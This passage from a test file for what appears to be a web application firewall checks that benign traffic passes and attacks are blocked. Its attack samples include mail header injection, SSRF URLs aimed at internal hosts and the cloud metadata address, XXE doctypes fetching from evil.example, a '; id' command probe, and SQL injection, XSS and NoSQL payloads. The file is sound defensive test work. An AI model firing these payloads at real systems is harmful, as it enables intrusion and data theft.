    # a one-line field (an address, a mailbox) holding the line of a mail protocol
    assert not passes(Request.make("POST", "/contact", FORM, "email=" + quote("jane@example.org\r\nBcc: all@example.net")))
    assert not passes(Request.make("POST", "/mail", XHR, json.dumps({"mailbox": "\r\nV100 CAPABILITY\r\nV101 FETCH 1"})))


def test_intranet_applications_reached_by_a_private_address_pass():
    """A browser on an application reached by its private address (a NodePort, an intranet server, a
    router's admin page) sends that address as the Referer of every request: the page it came from,
    not a URL the server fetches. The same address as a parameter or another header is still SSRF."""
    page = {"User-Agent": UA, "Referer": "http://10.1.2.3:30080/app/orders?page=2", "Sec-Fetch-Site": "same-origin"}
    assert passes(Request.make("GET", "/app/orders/17", page))
    assert passes(Request.make("GET", "/admin/status.htm", {"User-Agent": UA, "Referer": "http://192.168.1.1/admin/"}))
    assert inspect(Request.make("GET", "/fetch?url=http://10.1.2.3:6379/", page)).blocked
    assert inspect(Request.make("GET", "/preview", {"User-Agent": UA, "X-Forwarded-Url": "http://169.254.169.254/latest/meta-data/"})).blocked
    assert inspect(Request.make("GET", "/preview", {"User-Agent": UA, "X-Fetch-Url": "http://192.168.1.1/admin/"})).blocked


def test_xhtml_templates_and_svg_files_naming_w3c_dtds_pass_the_external_dtd_rules():
    """E-mail templates start with XHTML's doctype and SVG files with SVG 1.1's: both name a W3C DTD
    that no HTML parser fetches. A doctype whose PUBLIC or SYSTEM identifier points elsewhere makes an
    XML parser fetch it (out-of-band XXE), in a body, a JSON value, a header or a cookie."""
    xhtml = ('<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" '
             '"http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd"><html><body><p>Hi {{name}}</p></body></html>')  # fmt: skip
    assert passes(Request.make("POST", "/api/templates", XHR, json.dumps({"subject": "Welcome", "html": xhtml})))
    svg = ('<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
           '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg xmlns="http://www.w3.org/2000/svg"><rect width="1" height="1"/></svg>')  # fmt: skip
    assert passes(Request.make("POST", "/upload", {"User-Agent": UA, "Content-Type": "image/svg+xml"}, svg))
    for dtd in ('<!DOCTYPE foo PUBLIC "-//X//Y" "http://evil.example/a.dtd"><foo/>',
                '<!DOCTYPE foo SYSTEM "http://evil.example/evil.dtd"><foo/>'):  # fmt: skip
        assert not passes(Request.make("POST", "/x", {"User-Agent": UA, "Content-Type": "application/xml"}, dtd))
        assert not passes(Request.make("POST", "/api/templates", XHR, json.dumps({"html": dtd})))
        assert not passes(Request.make("GET", "/", {"User-Agent": UA, "X-Custom-Data": dtd}))
        assert not passes(Request.make("GET", "/", {"User-Agent": UA, "Cookie": "pref=" + quote(dtd)}))


def test_short_random_tokens_in_headers_that_decode_to_a_separator_pass():
    """Class: request ids and nonces of 8-11 base64 characters in custom headers; about one in a few
    thousand decodes to text starting with `;` or `|` and a word (`OzNWa1F6` is `;3VkQz`). A command
    after a separator is a probe in User-Agent or Referer, where it stays blocked."""
    token = base64.b64encode(b";3VkQz").decode()  # OzNWa1F6
    assert passes(Request.make("GET", "/api/cart", {**XHR, "X-Request-Nonce": token}))
    assert inspect(Request.make("GET", "/", {"User-Agent": "; id"})).blocked


def test_json_documents_in_parameters_are_inspected_value_by_value() -> None:
    """Class: stringified JSON in a query parameter or a form field (analytics `data=` and `events=`
    beacons). Read as one text its quotes, brackets and colons trip the rules that count special
    characters (250105, paranoia 3); read as a JSON body is, value by value, it passes. An attack inside
    one of its strings, keys or escapes is still seen, and a text that only looks like JSON is read
    whole, as before."""
    from waf import Engine, EngineConfig

    strict = Engine(EngineConfig(paranoia=4))
    events = json.dumps(
        [{"key": "page_view", "count": 1, "segmentation": {"tab": "home", "items": [{"id": 7, "pos": [0, 1]}]}},
         {"key": "click", "ts": 1700000000000, "target": "ul.menu > li:nth-child(2) > a[href]"}]
    )  # fmt: skip
    beacon = Request.make("POST", "/collect", FORM, "events=" + quote(events) + "&app=web")
    assert strict.inspect(beacon).matches == ()
    assert strict.inspect(Request.make("GET", "/track?data=" + quote(events), {"User-Agent": UA})).matches == ()

    attacks = [
        {"q": "' OR 1=1--"},
        [{"msg": "<script>alert(document.cookie)</script>"}],
        {"user": {"$ne": None}},
        {"cmd": "\\u003cimg src=x onerror=alert(1)\\u003e"},
    ]
    for doc in attacks:
        text = json.dumps(doc).replace("\\\\u", "\\u")  # (the last one: JSON escapes of `<` and `>`)
        for req in (
            Request.make("GET", "/search?filter=" + quote(text), {"User-Agent": UA}),
            Request.make("POST", "/collect", FORM, "events=" + quote(text)),
        ):
            v = inspect(req)
            assert v.blocked, (text, v)
            assert any("|json" in m.location for m in v.matches), (text, v.matches)
    looks_like_json = '{"q": 1} UNION SELECT password FROM users--'
    assert inspect(Request.make("GET", "/s?q=" + quote(looks_like_json), {"User-Agent": UA})).blocked
